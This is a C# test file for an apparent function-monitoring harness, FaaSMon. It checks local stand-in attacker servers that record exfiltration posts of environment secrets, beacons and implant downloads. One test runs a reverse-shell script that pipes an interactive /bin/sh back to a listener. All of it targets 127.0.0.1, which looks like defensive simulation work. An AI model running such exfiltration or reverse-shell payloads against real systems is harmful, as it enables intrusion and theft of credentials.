using System.Buffers.Binary;
using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using FaaSMon.Workload;

namespace FaaSMon.Functions.Tests;

/// <summary>The driver's own servers, over real HTTP and TCP on 127.0.0.1.</summary>
public sealed class WorkloadServerTests
{
    [Fact]
    public async Task Attacker_server_records_an_exfil_post_and_a_beacon_with_their_nonces()
    {
        await using var attacker = await AttackerServer.StartAsync(CancellationToken.None);
        using var http = new HttpClient();
        var exfilNonce = AttackPayloads.NewNonce();
        var beaconNonce = AttackPayloads.NewNonce();
        var waitingForBeacon = attacker.WaitForAsync(CallbackKind.Beacon, beaconNonce, TimeSpan.FromSeconds(10), CancellationToken.None);

        using var exfil = await http.PostAsync(
            new Uri(attacker.BaseUri, $"exfil?nonce={exfilNonce}"),
            new StringContent("""{"env":{"PGPASSWORD":"x"}}""", Encoding.UTF8, "application/json"));
        using var beacon = await http.GetAsync(new Uri(attacker.BaseUri, $"beacon?nonce={beaconNonce}&host=fn-host-1"));

        Assert.Equal(HttpStatusCode.NoContent, exfil.StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, beacon.StatusCode);
        var recordedBeacon = await waitingForBeacon;
        Assert.NotNull(recordedBeacon);
        Assert.Equal("fn-host-1", recordedBeacon.Host);
        Assert.StartsWith("127.0.0.1:", recordedBeacon.Remote, StringComparison.Ordinal);
        var recordedExfil = await attacker.WaitForAsync(CallbackKind.Exfil, exfilNonce, TimeSpan.FromSeconds(1), CancellationToken.None);
        Assert.Equal("""{"env":{"PGPASSWORD":"x"}}""", recordedExfil?.Body);
        Assert.Null(await attacker.WaitForAsync(CallbackKind.Exfil, beaconNonce, TimeSpan.FromMilliseconds(200), CancellationToken.None));
        Assert.Equal(2, attacker.Callbacks.Count);
    }

    [Fact]
    public async Task Attacker_server_serves_the_implant_a_decoy_for_other_stage_names_and_404_elsewhere()
    {
        await using var attacker = await AttackerServer.StartAsync(CancellationToken.None);
        using var http = new HttpClient();
        var nonce = AttackPayloads.NewNonce();

        var implant = await http.GetStringAsync(AttackPayloads.ContainerReuseStageUrl(attacker.BaseUri, nonce));
        using var decoy = await http.GetAsync(AttackPayloads.ContainerReuseTriggerUrl(attacker.BaseUri, nonce));
        using var other = await http.GetAsync(new Uri(attacker.BaseUri, "index.html"));

        Assert.Equal(AttackPayloads.EvilScript, implant);
        Assert.True(attacker.HasReceived(CallbackKind.StageDownload, nonce));
        Assert.Equal(HttpStatusCode.OK, decoy.StatusCode);
        Assert.Equal("image/png", decoy.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.NotFound, other.StatusCode);
    }

    [Fact]
    public async Task Attacker_server_stops_listening_when_disposed()
    {
        Uri address;
        await using (var attacker = await AttackerServer.StartAsync(CancellationToken.None))
        {
            address = attacker.BaseUri;
        }

        using var http = new HttpClient();
        await Assert.ThrowsAsync<HttpRequestException>(() => http.GetAsync(new Uri(address, "beacon?nonce=1")));
    }

    [Fact]
    public async Task Photo_host_serves_real_png_and_jpeg_images_of_varied_sizes()
    {
        await using var photos = await PhotoHost.StartAsync(CancellationToken.None);
        using var http = new HttpClient();

        using var png = await http.GetAsync(photos.PhotoUrl("p-cam-001-front-1a.png"));
        using var jpeg = await http.GetAsync(photos.PhotoUrl("p-cam-001-side-2b.jpg"));
        using var missing = await http.GetAsync(new Uri(photos.BaseUri, "photos/readme.txt"));
        var pngBytes = await png.Content.ReadAsByteArrayAsync();
        var jpegBytes = await jpeg.Content.ReadAsByteArrayAsync();

        Assert.Equal("image/png", png.Content.Headers.ContentType?.MediaType);
        Assert.Equal("image/jpeg", jpeg.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        AssertValidPng(pngBytes);
        AssertValidJpeg(jpegBytes);
        Assert.Equal(pngBytes, await http.GetByteArrayAsync(photos.PhotoUrl("p-cam-001-front-1a.png"))); // same name, same picture
        var sizes = Enumerable.Range(0, 12).Select(i => PhotoHost.Render($"p-bag-00{i}-top-{i}.png")!.Length).Distinct().Count();
        Assert.True(sizes > 6, "different names give different pictures");
        Assert.Equal(3, photos.Served);
    }

    [Fact]
    public async Task Reverse_shell_listener_reads_the_probe_answer_back_from_a_real_shell()
    {
        await using var listener = ReverseShellListener.Start();
        var nonce = AttackPayloads.NewNonce();
        var probe = listener.RunProbeAsync(nonce, TimeSpan.FromSeconds(20), CancellationToken.None);

        // The attack's own script: node connects back and pipes /bin/sh -i to the socket.
        var shell = WorkloadProcesses.RunAsync("/bin/sh", ["-c", AttackPayloads.ReverseShellScript(listener.Host, listener.Port)], timeout: TimeSpan.FromSeconds(20));
        var session = await probe;

        Assert.NotNull(session);
        Assert.True(session.Answered, session.Transcript);
        Assert.Equal(int.Parse((await WorkloadProcesses.RunAsync("id", ["-u"])).StandardOutput.Trim(), provider: null), session.Uid);
        await shell; // "exit" ended the shell and with it node: nothing is left running (it would time out)
    }

    [Fact]
    public async Task Reverse_shell_listener_gives_up_when_nobody_connects_and_reports_a_silent_client()
    {
        await using var listener = ReverseShellListener.Start();
        Assert.Null(await listener.RunProbeAsync("00", TimeSpan.FromMilliseconds(200), CancellationToken.None));

        using var silent = new TcpClient();
        await silent.ConnectAsync(IPAddress.Loopback, listener.Port);
        var probe = listener.RunProbeAsync("11", TimeSpan.FromSeconds(10), CancellationToken.None);
        var stream = silent.GetStream();
        var buffer = new byte[256];
        var read = await stream.ReadAsync(buffer);
        Assert.Equal(AttackPayloads.ReverseShellProbe("11"), Encoding.UTF8.GetString(buffer, 0, read));
        await stream.WriteAsync("sh: 1: id: not found\nFAASMON-11-\n"u8.ToArray());
        silent.Client.Shutdown(SocketShutdown.Send);
        var session = await probe;

        Assert.NotNull(session);
        Assert.False(session.Answered);
        Assert.Null(session.Uid);
    }

    private static void AssertValidPng(byte[] png)
    {
        Assert.Equal(new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }, png[..8]);
        var width = BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(16));
        var height = BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(20));
        Assert.Equal("IHDR", Encoding.ASCII.GetString(png, 12, 4));
        Assert.InRange(width, 24, 160);
        Assert.InRange(height, 24, 120);

        // The image data inflates to one filter byte plus width × RGB per row.
        var offset = 8;
        using var idat = new MemoryStream();
        while (offset < png.Length)
        {
            var length = BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(offset));
            var type = Encoding.ASCII.GetString(png, offset + 4, 4);
            if (type == "IDAT")
            {
                idat.Write(png, offset + 8, length);
            }

            offset += 12 + length;
        }

        idat.Position = 0;
        using var inflated = new MemoryStream();
        using (var zlib = new ZLibStream(idat, CompressionMode.Decompress))
        {
            zlib.CopyTo(inflated);
        }

        Assert.Equal(height * (1 + (width * 3)), inflated.Length);
        Assert.Equal("IEND", Encoding.ASCII.GetString(png, png.Length - 8, 4));
    }

    private static void AssertValidJpeg(byte[] jpeg)
    {
        Assert.Equal(new byte[] { 0xFF, 0xD8, 0xFF, 0xE0 }, jpeg[..4]);
        Assert.Equal("JFIF", Encoding.ASCII.GetString(jpeg, 6, 4));
        Assert.Equal(new byte[] { 0xFF, 0xD9 }, jpeg[^2..]);
        var sof = jpeg.AsSpan().IndexOf(new byte[] { 0xFF, 0xC0 });
        Assert.True(sof > 0, "a baseline frame header");
        var height = BinaryPrimitives.ReadUInt16BigEndian(jpeg.AsSpan(sof + 5));
        var width = BinaryPrimitives.ReadUInt16BigEndian(jpeg.AsSpan(sof + 7));
        Assert.Equal(0, height % 8);
        Assert.Equal(0, width % 8);
        Assert.InRange(width, 24, 160);
        Assert.Equal(3, jpeg[sof + 9]); // YCbCr
    }
}
